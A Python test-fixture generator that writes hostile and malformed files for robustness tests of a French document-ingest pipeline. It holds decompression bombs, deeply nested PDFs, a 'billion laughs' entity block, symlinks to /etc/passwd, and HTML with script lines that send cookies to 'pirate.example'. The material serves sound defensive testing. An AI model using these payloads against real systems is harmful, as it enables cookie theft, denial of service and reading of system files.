"""Broken and hostile files for the ingest pipeline, written into a folder.

`generate(folder, real_pdfs)` writes more than a hundred bad files (truncated, corrupt, encrypted,
empty, deeply nested, decompression bombs, binary, non-UTF-8, huge lines, image-only, symlinks,
FIFOs…) and a dozen good French documents, and returns one `Case` per file: what the pipeline may
do with it, the French reason expected when it refuses it, and the text that must (or must never)
reach the index. Everything is deterministic (seeded), and built with the standard library,
pypdf and reportlab: PDFs are written by hand where a broken structure is the point.
"""

from __future__ import annotations

import hashlib
import io
import os
import random
import re
import zlib
from dataclasses import dataclass, field
from pathlib import Path

INDEXED, SKIPPED, IGNORED = "indexed", "skipped", "ignored"
DUPLICATE, ABSENT = "duplicate", "absent"
# The file-size limit the run must use (IREV_MAX_FILE_MB=4): the 5 MB line is over it.
MAX_BYTES = 4_000_000
# A PDF cut or damaged after its first pages may still give text: indexing what pypdf recovers,
# or refusing the file, are both correct; crashing or hanging is not.
RECOVERABLE = frozenset({INDEXED, SKIPPED, DUPLICATE})
# French words every refusal reason is made of (the report goes to French-speaking users).
FRENCH = re.compile(r"\b(fichier|PDF|texte|encodage|format|lien|chiffré|vide|volumineux|page|"
                    r"illisible|contenu|HTML|structure|OCR|ordinaire|nom)\b", re.I)


@dataclass(frozen=True)
class Case:
    name: str  # path relative to the folder
    kind: str  # family, for messages
    expect: frozenset[str]  # accepted outcomes
    reason: str = ""  # regex a refusal reason must match
    marker: str = ""  # good files: a phrase that must be found in the index
    forbidden: tuple[str, ...] = ()  # text that must never be indexed (script content…)


@dataclass
class _Writer:
    folder: Path
    cases: list[Case] = field(default_factory=list)

    def add(self, name: str, data: bytes, kind: str, expect=frozenset({SKIPPED}), reason: str = "",
            **extra) -> Path:
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self.cases.append(Case(name, kind, frozenset(expect), reason, **extra))
        return path


def generate(folder: Path, real_pdfs: list[Path], seed: int = 20140221) -> list[Case]:
    """Write the hostile corpus into `folder` (created) and describe each file."""
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    w = _Writer(folder)
    _good_files(w)
    _truncated_pdfs(w, real_pdfs)
    _mutated_pdfs(w, real_pdfs, rng)
    _corrupt_pdfs(w)
    _encrypted_pdfs(w, rng)
    _empty_files(w)
    _nested_pdfs(w)
    _bombs(w)
    _binary_as_text(w, rng)
    _bad_html(w)
    _huge_lines(w, rng)
    _bad_encodings(w)
    _image_only_pdfs(w)
    _links_and_special_files(w, folder)
    _unsupported(w)
    return w.cases


# -- good files --------------------------------------------------------------------------------

GOOD_TEXTS = [
    ("La Maison du projet de Roubaix accueille les habitants du quartier de l'Épeule chaque "
     "mercredi pour présenter les chantiers de renouvellement urbain.", "repère alpha-Épeule"),
    ("Le conseil citoyen de Maubeuge s'est réuni quatre fois en 2023 et a rendu un avis sur la "
     "rénovation de la place Vauban.", "repère bravo-Vauban"),
    ("La cité éducative de Calais finance des ateliers de lecture pour les enfants de six à onze "
     "ans dans les écoles du quartier du Beau-Marais.", "repère charlie-Beau-Marais"),
    ("À Denain, l'abattement de taxe foncière finance une équipe de médiation de nuit et la "
     "réfection des halls d'immeubles de la résidence Villars.", "repère delta-Villars"),
    ("Le bailleur de Lens a installé vingt-deux composteurs partagés au pied des immeubles de la "
     "cité des Provinces, avec l'aide des jardiniers du quartier.", "repère echo-Provinces"),
    ("À Creil, le programme de réussite éducative suit cent quarante enfants et leurs familles, "
     "avec une psychologue et deux éducatrices spécialisées.", "repère fox-Creil"),
    ("Les adultes-relais de Saint-Quentin tiennent une permanence à la sortie du collège "
     "Gabriel-Hanotaux pour prévenir les conflits entre élèves.", "repère golf-Hanotaux"),
    ("La délégation du préfet à Beauvais coordonne le cofinancement des chantiers éducatifs "
     "d'été, où des jeunes de seize à vingt-cinq ans repeignent les cages d'escalier.",
     "repère hotel-Beauvais"),
    ("À Tourcoing, la gestion urbaine de proximité organise un diagnostic en marchant chaque "
     "trimestre avec les habitants du quartier de la Bourgogne.", "repère india-Bourgogne"),
    ("Le centre social d'Amiens Nord propose une aide aux démarches administratives en ligne "
     "trois matinées par semaine, avec deux conseillers numériques.", "repère juliet-Amiens"),
    ("À Boulogne-sur-Mer, le contrat de ville prévoit un fonds de participation des habitants "
     "de dix mille euros pour les projets du quartier du Chemin-Vert.", "repère kilo-Chemin-Vert"),
    ("À Lille-Sud, le plan guide du renouvellement urbain prévoit la démolition de deux tours et "
     "la création d'un mail planté jusqu'au parc.", "repère lima-Lille-Sud"),
]
# 20 kB of base64, as a Markdown export inlines an image: data, never text to index.
INLINE_IMAGE = "".join(random.Random(7).choices(
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", k=20_000))


def _paragraphs(i: int) -> str:
    sentence, marker = GOOD_TEXTS[i]
    return (f"{sentence} Ce document porte le {marker}. Il a été rédigé pour les essais "
            f"d'indexation numéro {i} et décrit une action locale de la politique de la ville.")


def _good_files(w: _Writer) -> None:
    good = frozenset({INDEXED})
    texts = [_paragraphs(i) for i in range(len(GOOD_TEXTS))]
    w.add("bon/note-roubaix.txt", f"Note de terrain\n\n{texts[0]}\n".encode(), "bon texte", good,
          marker=GOOD_TEXTS[0][1])
    w.add("bon/note-maubeuge-bom.txt", ("\ufeffCompte rendu\n\n" + texts[1]).encode(), "bon BOM",
          good, marker=GOOD_TEXTS[1][1])
    w.add("bon/fiche-calais.md", f"# Fiche action Calais\n\n## Contexte\n\n{texts[2]}\n".encode(),
          "bon markdown", good, marker=GOOD_TEXTS[2][1])
    # Markdown carrying HTML: indexed as text, literally (the interface renders text, not HTML).
    w.add("bon/fiche-denain-html.md",
          (f"# Fiche Denain\n\n{texts[3]}\n\n<div onclick=\"alert(1)\">bloc</div>\n"
           "<script>document.location='https://pirate.example/?c='+document.cookie</script>\n")
          .encode(), "markdown + HTML", good, marker=GOOD_TEXTS[3][1])
    # HTML pages: their scripts, styles and navigation must never reach the index.
    for n, name in ((4, "page-lens.html"), (5, "page-creil.htm")):
        html = f"""<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8">
<title>Actualité {name}</title>
<script>var jetonSecretScript{n} = "JETON-SCRIPT-{n}"; fetch('/vol?'+document.cookie);</script>
<style>body {{ content: "JETON-STYLE-{n}"; }}</style></head>
<body><nav><a href="/">Accueil</a></nav><main><article><h1>Actualité du quartier</h1>
<p>{texts[n]}</p><p>{texts[n]} Deuxième paragraphe pour que la page soit assez longue.</p>
<script>document.write("JETON-SCRIPT-INLINE-{n}")</script>
<img src="x" onerror="alert('JETON-ONERROR-{n}')"></article></main></body></html>"""
        w.add(f"bon/{name}", html.encode(), "HTML + scripts", good, marker=GOOD_TEXTS[n][1],
              forbidden=(f"JETON-SCRIPT-{n}", f"jetonSecretScript{n}", f"JETON-STYLE-{n}",
                         f"JETON-SCRIPT-INLINE-{n}", f"JETON-ONERROR-{n}"))
    for n, name in ((6, "rapport-saint-quentin.pdf"), (7, "rapport-beauvais.pdf")):
        w.add(f"bon/{name}", reportlab_pdf([texts[n], "Deuxième page : " + texts[n]]),
              "bon PDF", good, marker=GOOD_TEXTS[n][1])
    # Encrypted with an owner password only: anyone may open it, so it is readable.
    w.add("bon/rapport-tourcoing-proprietaire.pdf",
          _pypdf_encrypted(reportlab_pdf([texts[8]]), user="", owner="proprietaire",
                           algorithm="RC4-128"),
          "PDF chiffré sans mot de passe d'ouverture", good, marker=GOOD_TEXTS[8][1])
    # One line of 10 kB without a single full stop (an export from a form, a minified page).
    words = " ".join(f"{GOOD_TEXTS[9][0][:-1]} {i}" for i in range(100))[:10_000]
    w.add("bon/ligne-unique-amiens.txt", f"{texts[9]} {words}".encode(), "ligne de 10 ko",
          good, marker=GOOD_TEXTS[9][1])
    # A Markdown export with its image inlined: the text is indexed, the image data is not.
    w.add("bon/fiche-lille-image.md", (f"# Fiche Lille-Sud\n\n{texts[11]}\n\n![Plan guide]"
                                      f"(data:image/png;base64,{INLINE_IMAGE})\n").encode(),
          "markdown + image en base64", good, marker=GOOD_TEXTS[11][1],
          forbidden=(INLINE_IMAGE[5000:5040],))
    # AES-128 with an empty user password (the usual « protected » PDF): readable when pypdf has
    # an AES implementation (the `cryptography` package), else a clear refusal, never a crash.
    aes_expect = {INDEXED} if _has_aes() else {SKIPPED}
    w.add("bon/rapport-boulogne-aes.pdf",
          aes_pdf(_page_content(texts[10]), user=b"", owner=b"proprietaire"),
          "PDF AES sans mot de passe d'ouverture", aes_expect, reason="chiffr|AES|cryptograph",
          marker=GOOD_TEXTS[10][1] if _has_aes() else "")


def _has_aes() -> bool:
    try:
        import cryptography  # noqa: F401
    except ImportError:
        try:
            import Crypto  # noqa: F401
        except ImportError:
            return False
    return True


# -- PDF helpers -------------------------------------------------------------------------------

def reportlab_pdf(pages: list[str]) -> bytes:
    """A real PDF written by reportlab (classic xref table), one string per page, wrapped."""
    import textwrap

    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4, invariant=1)
    for text in pages:
        y = 800
        for line in textwrap.wrap(text, 90):
            pdf.drawString(50, y, line)
            y -= 16
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def build_pdf(objects: dict[int, bytes], root: int = 1, trailer: bytes = b"",
              header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") -> bytes:
    """Serialise numbered objects with a correct xref table (broken on purpose elsewhere)."""
    out = bytearray(header)
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    xref = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 00000 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, trailer, xref)
    return bytes(out)


def stream(data: bytes, extra: bytes = b"", length: int | None = None) -> bytes:
    size = len(data) if length is None else length
    return b"<< /Length %d %s>>\nstream\n" % (size, extra) + data + b"\nendstream"


def _escape(text: str) -> bytes:
    raw = text.encode("cp1252", "replace")
    return raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def _page_content(text: str) -> bytes:
    import textwrap

    lines = [b"BT /F1 11 Tf 50 800 Td 14 TL"]
    lines += [b"(" + _escape(line) + b") '" for line in textwrap.wrap(text, 90)]
    return b"\n".join([*lines, b"ET"])


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def simple_pdf(content: bytes, page_extra: bytes = b"", content_extra: bytes = b"",
               content_length: int | None = None, pages: bytes | None = None) -> bytes:
    """One page whose content stream is `content` (already encoded/compressed as declared)."""
    return build_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: pages or b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
           b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        4: stream(content, content_extra, content_length),
        5: FONT,
    })


def _garble_xref(pdf: bytes) -> bytes:
    start = pdf.rindex(b"\nxref\n") + 1
    end = pdf.index(b"trailer", start)
    rng = random.Random(len(pdf))
    garbage = bytes(rng.choice(b"0123456789") if c in b"0123456789" else c
                    for c in pdf[start:end])
    return pdf[:start] + garbage + pdf[end:]


def _pypdf_encrypted(pdf: bytes, user: str, owner: str, algorithm: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    writer.encrypt(user_password=user, owner_password=owner, algorithm=algorithm)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# -- bad PDFs ----------------------------------------------------------------------------------

PDF_REASON = r"PDF|OCR|texte"


def _truncated_pdfs(w: _Writer, real_pdfs: list[Path]) -> None:
    fractions = [0.0005, 0.01, 0.03, 0.08, 0.15, 0.25, 0.4, 0.55, 0.7, 0.85, 0.95, 0.995]
    for pdf in real_pdfs:
        data = pdf.read_bytes()
        for fraction in fractions:
            cut = max(9, int(len(data) * fraction))
            expect = {SKIPPED} if fraction < 0.01 else RECOVERABLE | {SKIPPED}
            w.add(f"tronques/{pdf.stem[:12]}-{int(fraction * 10000):04d}.pdf", data[:cut],
                  "PDF tronqué", expect, PDF_REASON)


def _mutated_pdfs(w: _Writer, real_pdfs: list[Path], rng: random.Random, count: int = 30) -> None:
    """Random byte edits (overwrite, delete, insert PDF tokens) of a real and a reportlab PDF."""
    bases = [real_pdfs[-1].read_bytes(), reportlab_pdf(["Page sur les quartiers prioritaires.",
                                                        "Page sur les contrats de ville."])]
    tokens = [b"[", b"<<", b"(", b"0 R", b"-1", b"99999999999", b"/Length 0", b"stream", b"\x00"]
    for i in range(count):
        data = bytearray(bases[i % 2])
        for _ in range(rng.choice([1, 3, 10, 30])):
            at, op = rng.randrange(len(data)), rng.random()
            if op < 0.5:
                data[at] = rng.randrange(256)
            elif op < 0.75:
                del data[at:at + rng.randrange(1, 50)]
            else:
                data[at:at] = rng.choice(tokens)
        w.add(f"mutants/mutant-{i:02d}.pdf", bytes(data), "PDF aux octets modifiés", RECOVERABLE,
              PDF_REASON)


def _corrupt_pdfs(w: _Writer) -> None:
    text = "Texte d'un PDF volontairement abîmé, sans intérêt documentaire."
    base = simple_pdf(_page_content(text))
    xref = base.rindex(b"\nxref\n") + 1
    startxref = base.rindex(b"startxref")
    variants = {
        "startxref-faux": base[:startxref] + b"startxref\n99999999\n%%EOF\n",
        "startxref-negatif": base[:startxref] + b"startxref\n-42\n%%EOF\n",
        "sans-xref-ni-trailer": base[:xref],
        "xref-aleatoire": _garble_xref(base),
        "xref-aleatoire-reportlab": _garble_xref(reportlab_pdf([text])),
        "root-absent": base.replace(b"/Root 1 0 R", b"/Root 99 0 R"),
        "sans-root": base.replace(b"/Root 1 0 R", b""),
        "pages-en-boucle": simple_pdf(_page_content(text),
                                      pages=b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"),
        "count-geant": simple_pdf(_page_content(text),
                                  pages=b"<< /Type /Pages /Kids [3 0 R] /Count 999999999 >>"),
        "kids-pas-un-tableau": simple_pdf(_page_content(text),
                                          pages=b"<< /Type /Pages /Kids 42 /Count 1 >>"),
        "contenu-absent": base.replace(b"/Contents 4 0 R", b"/Contents 77 0 R"),
        "length-geante": simple_pdf(_page_content(text), content_length=10**12),
        "length-negative": simple_pdf(_page_content(text), content_length=-5),
        "flate-invalide": simple_pdf(b"ceci n'est pas du zlib" * 20,
                                     content_extra=b"/Filter /FlateDecode "),
        "filtre-inconnu": simple_pdf(_page_content(text), content_extra=b"/Filter /PasUnFiltre "),
        "objets-melanges": base.replace(b"endobj", b"endobj endobj obj", 3),
        "entete-seul": b"%PDF-1.7\n",
        "texte-nomme-pdf": "Ceci est une note en texte brut, nommée .pdf par erreur.".encode(),
        "html-nomme-pdf": b"<html><body><p>Une page web</p></body></html>",
        "zero-page": build_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                2: b"<< /Type /Pages /Kids [] /Count 0 >>"}),
        "octets-nuls": b"%PDF-1.4\n" + b"\x00" * 50_000,
    }
    recoverable = {"startxref-faux", "startxref-negatif", "sans-xref-ni-trailer",
                   "xref-aleatoire", "xref-aleatoire-reportlab", "root-absent", "sans-root",
                   "pages-en-boucle",
                   "count-geant", "length-geante", "length-negative", "filtre-inconnu",
                   "objets-melanges"}
    for name, data in variants.items():
        expect = RECOVERABLE if name in recoverable else {SKIPPED}
        w.add(f"corrompus/{name}.pdf", data, "PDF corrompu", expect, PDF_REASON)


def _encrypted_pdfs(w: _Writer, rng: random.Random) -> None:
    text = reportlab_pdf(["Rapport confidentiel sur les quartiers prioritaires."])
    for algorithm in ("RC4-40", "RC4-128"):
        w.add(f"chiffres/mot-de-passe-{algorithm}.pdf",
              _pypdf_encrypted(text, user="secret", owner="secret-proprio", algorithm=algorithm),
              "PDF chiffré", {SKIPPED}, r"chiffré")
    w.add("chiffres/mot-de-passe-aes.pdf",
          aes_pdf(_page_content("Rapport confidentiel AES."), user=b"secret", owner=b"proprio"),
          "PDF chiffré AES", {SKIPPED}, r"chiffré|AES|cryptograph")
    # an /Encrypt dictionary naming a handler nobody implements
    w.add("chiffres/filtre-inconnu.pdf", build_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        4: stream(bytes(rng.randrange(256) for _ in range(400))),
        6: b"<< /Filter /Adobe.PubSec /V 5 /R 6 /SubFilter /adbe.pkcs7.s5 >>",
    }, trailer=b"/Encrypt 6 0 R /ID [<00112233445566778899aabbccddeeff> "
               b"<00112233445566778899aabbccddeeff>] "), "PDF chiffré (certificat)", {SKIPPED},
        r"chiffré|PDF")


def _empty_files(w: _Writer) -> None:
    for name in ("vide.pdf", "vide.txt", "vide.md", "vide.html"):
        w.add(f"vides/{name}", b"", "fichier vide", {SKIPPED}, r"vide")
    w.add("vides/blanc.txt", b" \n\t\n   \n" * 100, "fichier blanc", {SKIPPED}, r"texte|blanc")
    w.add("vides/bom-seul.md", b"\xef\xbb\xbf", "BOM seul", {SKIPPED}, r"texte|blanc")
    w.add("vides/blanc.html", b"<html><body>   </body></html>", "HTML vide", {SKIPPED},
          r"contenu|HTML")


def _nested_pdfs(w: _Writer) -> None:
    content = _page_content("Un PDF dont la structure est imbriquée à l'extrême.")
    deep = 10_000
    arrays = b"[" * deep + b"]" * deep
    dicts = b"<< /A " * deep + b"1" + b" >>" * deep
    w.add("imbriques/tableaux-10k.pdf", simple_pdf(content, b"/Piege " + arrays + b" "),
          "PDF imbriqué", RECOVERABLE, PDF_REASON)
    w.add("imbriques/dictionnaires-10k.pdf", simple_pdf(content, b"/Piege " + dicts + b" "),
          "PDF imbriqué", RECOVERABLE, PDF_REASON)
    w.add("imbriques/tableaux-100k.pdf",
          simple_pdf(content, b"/Piege " + b"[" * 100_000 + b"]" * 100_000 + b" "),
          "PDF imbriqué", RECOVERABLE, PDF_REASON)
    w.add("imbriques/tableaux-dans-le-contenu.pdf",
          simple_pdf(b"BT /F1 11 Tf 50 800 Td " + arrays + b" TJ ET\n" + content),
          "PDF imbriqué", RECOVERABLE, PDF_REASON)
    w.add("imbriques/tableaux-non-fermes.pdf",
          simple_pdf(content, b"/Piege " + b"[" * deep + b" "), "PDF imbriqué", RECOVERABLE,
          PDF_REASON)
    # /Resources that points at itself, and a page tree that is its own parent
    w.add("imbriques/ressources-cycliques.pdf", build_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
           b"/Resources 6 0 R >>",
        4: stream(b"BT /F1 11 Tf 50 800 Td (Ressources en boucle) Tj /X0 Do ET"),
        6: b"<< /Font << /F1 7 0 R >> /XObject << /X0 8 0 R >> /Self 6 0 R >>",
        7: FONT,
        8: stream(b"/X0 Do (encore) Tj", b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] "
                                         b"/Resources 6 0 R "),
    }), "PDF à XObject récursif", RECOVERABLE, PDF_REASON)


def _bomb_content(total: int) -> bytes:
    """A content stream of `total` bytes of text operators, deflated (~300:1)."""
    line = b"BT /F1 12 Tf 72 712 Td (quartier prioritaire de la politique de la ville) Tj ET\n"
    chunk = line * (1_000_000 // len(line))
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(chunk) for _ in range(total // len(chunk))]
    return b"".join([*parts, compressor.flush()])


def _bombs(w: _Writer) -> None:
    gigabyte = _bomb_content(1_000_000_000)
    w.add("bombes/flate-1go.pdf", simple_pdf(gigabyte, content_extra=b"/Filter /FlateDecode "),
          "bombe de décompression 1 Go", RECOVERABLE, PDF_REASON)
    # the same bomb deflated twice: a ~20 kB file
    twice = zlib.compress(gigabyte, 9)
    w.add("bombes/flate-double-1go.pdf",
          simple_pdf(twice, content_extra=b"/Filter [/FlateDecode /FlateDecode] "),
          "bombe double 1 Go",
          RECOVERABLE, PDF_REASON)
    # 60 MB of text operators: under pypdf's own 75 MB limit, so the cap is ours to enforce
    w.add("bombes/flate-60mo.pdf",
          simple_pdf(_bomb_content(60_000_000), content_extra=b"/Filter /FlateDecode "),
          "bombe de décompression 60 Mo", RECOVERABLE, PDF_REASON)
    w.add("bombes/dix-pages-20mo.pdf", page_bombs(10, 20_000_000),
          "10 pages de 20 Mo décompressés", RECOVERABLE, PDF_REASON)


def form_bomb(size: int) -> bytes:
    """One page that draws a form XObject holding `size` bytes of deflated text operators."""
    form = stream(_bomb_content(size), b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "
                  b"/Resources << /Font << /F1 5 0 R >> >> /Filter /FlateDecode ")
    return build_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
           b"/Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >> >>",
        4: stream(b"/Fm1 Do"),
        5: FONT,
        6: form,
    })


def page_bombs(count: int, size: int) -> bytes:
    """`count` pages, each a deflated content stream of `size` bytes of text operators."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 5: FONT}
    kids = []
    content = stream(_bomb_content(size), b"/Filter /FlateDecode ")
    for i in range(count):
        kids.append(b"%d 0 R" % (10 + 2 * i))
        objects[10 + 2 * i] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                               b"/Contents %d 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
                               % (11 + 2 * i))
        objects[11 + 2 * i] = content
    objects[2] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), count)
    return build_pdf(objects)


# -- text files --------------------------------------------------------------------------------

TEXT_REASON = r"binaire|encodage|UTF|texte"


def _binary_as_text(w: _Writer, rng: random.Random) -> None:
    noise = bytes(rng.randrange(256) for _ in range(20_000))
    png = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x02\x00"
           b"\x00\x00\x90\x91h6" + noise[:2000])
    no_nul = bytes(b or 1 for b in noise)
    for name, data in {
        "bruit.txt": noise, "image.md": png, "programme.txt": b"\x7fELF\x02\x01\x01" + noise,
        "archive.md": b"PK\x03\x04" + noise, "compresse.txt": zlib.compress(noise * 3),
        "bruit-sans-nul.txt": no_nul, "bruit-sans-nul.md": no_nul[::-1],
        "nul-tardif.txt": b"Texte normal au debut. " * 1000 + b"\x00\x00" + noise,
        "page.html": noise, "pdf-nomme-txt.txt": reportlab_pdf(["Un PDF deguise en texte."]),
    }.items():
        expect = {SKIPPED}
        if name == "nul-tardif.txt":  # UTF-8 text with NULs after 8 kB: text with odd bytes
            expect = {SKIPPED, INDEXED}
        w.add(f"binaires/{name}", data, "binaire nommé texte", expect, TEXT_REASON)


def _bad_html(w: _Writer) -> None:
    w.add("html/scripts-seuls.html",
          b"<html><head><script>" + b"var a = 'JETON-SEUL';" * 500 + b"</script></head>"
          b"<body><script>alert(1)</script><style>p{}</style></body></html>",
          "HTML sans contenu", {SKIPPED}, r"contenu|HTML", forbidden=("JETON-SEUL",))
    deep = b"<div>" * 100_000 + "Texte au fond de cent mille div imbriquées.".encode() \
        + b"</div>" * 100_000
    w.add("html/div-100k.html", b"<html><body>" + deep + b"</body></html>", "HTML imbriqué",
          {SKIPPED, INDEXED}, r"contenu|HTML")
    w.add("html/latin1-declare.html",
          "<html><head><meta charset='iso-8859-1'></head><body><p>Économie sociale et solidaire "
          "dans les quartiers : réunion à Hénin-Beaumont.</p></body></html>".encode("latin-1"),
          "HTML latin-1", {SKIPPED, INDEXED}, TEXT_REASON)
    w.add("html/commentaires.html",
          b"<html><body><!-- " + b"JETON-COMMENTAIRE " * 2000 + b"--></body></html>",
          "HTML de commentaires", {SKIPPED}, r"contenu|HTML", forbidden=("JETON-COMMENTAIRE",))
    w.add("html/entites.html",
          b"<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
          b"<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;"
          b"&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">]><html><body><p>&e;&e;&e;"
          b"</p></body></html>", "HTML « billion laughs »", {SKIPPED, INDEXED},
          r"contenu|HTML", forbidden=("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",))


def _huge_lines(w: _Writer, rng: random.Random) -> None:
    """One-line files: data without spaces (refused: not prose), and a line over the size limit."""
    size = 3_000_000
    alphabet = "abcdefghijklmnopqrstuvwxyzéèàç"
    reason = TEXT_REASON + r"|ligne|mot|espace|rédigé"
    w.add("lignes/3mo-sans-espace.txt", "".join(rng.choices(alphabet, k=size)).encode()[:size],
          "ligne de 3 Mo sans espace", {SKIPPED}, reason)
    base64 = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    w.add("lignes/3mo-base64.md", b"![plan](data:image/png;base64,"
          + bytes(rng.choices(base64, k=size)) + b")", "3 Mo de base64", {SKIPPED}, reason)
    words = " ".join(f"mot{rng.randrange(50_000)}" for _ in range(5_000_000 // 8))
    w.add("lignes/5mo-avec-espaces.md", words.encode()[:5_000_000],
          "ligne de 5 Mo avec espaces", {SKIPPED}, r"volumineux")


def _bad_encodings(w: _Writer) -> None:
    french = ("Les habitants des quartiers prioritaires bénéficient d'un accompagnement renforcé "
              "vers l'emploi ; l'État et la région cofinancent les actions. " * 20)
    for name, data in {
        "latin1.txt": french.encode("latin-1"),
        "latin1.md": ("# Réunion\n\n" + french).encode("latin-1"),
        "cp1252-guillemets.txt": ("« " + french + " » – œuvre").encode("cp1252"),
        "utf16-sans-bom.txt": french.encode("utf-16-le"),
        "utf16-be-sans-bom.md": french.encode("utf-16-be"),
        "utf16-avec-bom.txt": french.encode("utf-16"),
        "utf32.txt": french.encode("utf-32"),
        "shift-jis.txt": "政策 都市 住民 参加".encode("shift_jis") * 50,
        "utf8-casse-au-milieu.txt": french.encode() + b"\xff\xfe\xc3" + french.encode(),
        "surrogates-cesu.txt": french.encode() + b"\xed\xa0\x80\xed\xb0\x80",
        "utf8-surlong.txt": b"\xc0\xaf" + french.encode(),
    }.items():
        w.add(f"encodages/{name}", data, "encodage non UTF-8", {SKIPPED}, TEXT_REASON)


def _image_only_pdfs(w: _Writer) -> None:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4, invariant=1)
    for i in range(3):  # a « scan »: shapes only, no text layer
        pdf.rect(50 + 10 * i, 500, 300, 200, fill=1)
        pdf.circle(300, 300, 80 + i)
        pdf.showPage()
    pdf.save()
    w.add("images/scan-formes.pdf", buffer.getvalue(), "PDF image seule", {SKIPPED}, r"OCR")
    # an inline raster image as the only content
    pixels = bytes((x * y) & 0xFF for y in range(64) for x in range(64))
    image = (b"q 200 0 0 200 100 400 cm BI /W 64 /H 64 /CS /G /BPC 8 ID " + pixels + b" EI Q")
    w.add("images/scan-image.pdf", simple_pdf(image), "PDF image seule", {SKIPPED}, r"OCR")
    w.add("images/texte-blanc.pdf", simple_pdf(b"BT /F1 11 Tf 50 800 Td (   ) Tj ET"),
          "PDF sans texte", {SKIPPED}, r"OCR|texte")


def _links_and_special_files(w: _Writer, folder: Path) -> None:
    outside = folder.parent / f"{folder.name}-hors-corpus"
    outside.mkdir(exist_ok=True)
    secret = outside / "secret.txt"
    secret.write_text("JETON-HORS-CORPUS : ce fichier est hors du dossier.", encoding="utf-8")
    (outside / "autre.md").write_text("# JETON-DOSSIER-LIE\n\nHors corpus.", encoding="utf-8")
    links = folder / "liens"
    links.mkdir(exist_ok=True)
    reason = r"lien symbolique"
    for name, target in {"secret.txt": secret, "passwd.txt": Path("/etc/passwd"),
                         "hostname.md": Path("/etc/hostname"), "zero.txt": Path("/dev/zero"),
                         "absent.txt": outside / "n-existe-pas.txt",
                         "relatif.md": Path("..") / ".." / outside.name / "autre.md"}.items():
        (links / name).symlink_to(target)
        w.cases.append(Case(f"liens/{name}", "lien hors du dossier", frozenset({SKIPPED}), reason,
                            forbidden=("JETON-HORS-CORPUS", "root:x:0")))
    (links / "dossier-lie").symlink_to(outside, target_is_directory=True)
    w.cases.append(Case("liens/dossier-lie", "dossier lié hors corpus",
                        frozenset({ABSENT, SKIPPED}), reason, forbidden=("JETON-DOSSIER-LIE",)))
    (links / "boucle-a.txt").symlink_to(links / "boucle-b.txt")
    (links / "boucle-b.txt").symlink_to(links / "boucle-a.txt")
    for name in ("boucle-a.txt", "boucle-b.txt"):
        w.cases.append(Case(f"liens/{name}", "lien en boucle", frozenset({SKIPPED}),
                            r"lien|illisible|boucle"))
    # A named pipe called .txt: reading it would block forever.
    os.mkfifo(links / "tube.txt")
    w.cases.append(Case("liens/tube.txt", "tube nommé", frozenset({SKIPPED}),
                        r"ordinaire|illisible|fichier"))
